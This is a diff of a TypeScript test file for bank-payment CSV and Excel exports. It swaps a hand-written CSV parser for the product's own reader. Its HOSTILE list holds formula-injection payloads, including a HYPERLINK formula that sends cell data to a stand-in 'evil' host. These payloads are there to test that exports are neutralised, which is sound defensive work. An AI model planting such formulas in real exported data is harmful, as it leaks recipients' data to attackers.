@@ -2,40 +2,13 @@ import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
 import { bankCsv, bankWorkbook, type BankLine } from '../../src/assistance/bank-export.js';
 import { allowanceCsv } from '../../src/monitoring/grant-payments.js';
-import { csvDocument, csvField } from '../../src/kernel/index.js';
+import { csvDocument, csvField, csvRecords } from '../../src/kernel/index.js';
 
 /** Values from SECURITY-TESTS IV-04. */
 const HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '\0=1'];
 
-/** An RFC 4180 reader, to check what a spreadsheet would see. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  const endField = () => {
-    row.push(field);
-    field = '';
-  };
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') endField();
-    else if (c === '\r' && text[i + 1] === '\n') {
-      endField();
-      rows.push(row);
-      row = [];
-      i++;
-    } else field += c;
-  }
-  return rows;
-}
+/** What a spreadsheet would see: the records of the product's own RFC 4180 reader (the department-import parser). */
+const parseCsv = (text: string): string[][] => csvRecords(text).map((r) => r.fields);
 
 const line = (holderName: string, bankName = '上海银行'): BankLine => ({ caseId: 7, holderName, bankName, accountNo: '6222020000000000001', amountFen: 150_000, programme: 'dibao', month: '2025-01' });
 
